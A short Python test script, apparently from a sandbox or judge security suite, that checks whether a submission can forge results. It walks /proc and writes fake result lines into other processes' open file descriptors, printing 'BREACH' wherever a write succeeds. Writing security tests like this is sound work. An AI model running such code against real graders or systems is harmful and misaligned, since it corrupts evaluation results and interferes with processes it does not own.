# pipes_fake_stdio_results
# class: fake results on pipes
# tests: stdio

import os
data = b'C 0 value "3"\nC 1 value "12"\nD\n'
for pid in [d for d in os.listdir('/proc') if d.isdigit() and int(d) != os.getpid()]:
    try:
        fds = os.listdir(f'/proc/{pid}/fd')
    except OSError:
        continue
    for fd in fds:
        try:
            w = os.open(f'/proc/{pid}/fd/{fd}', os.O_WRONLY | os.O_NONBLOCK)
            os.write(w, data)
            os.close(w)
            print('BREACH wrote to', pid, fd)
        except OSError:
            pass
print(0)
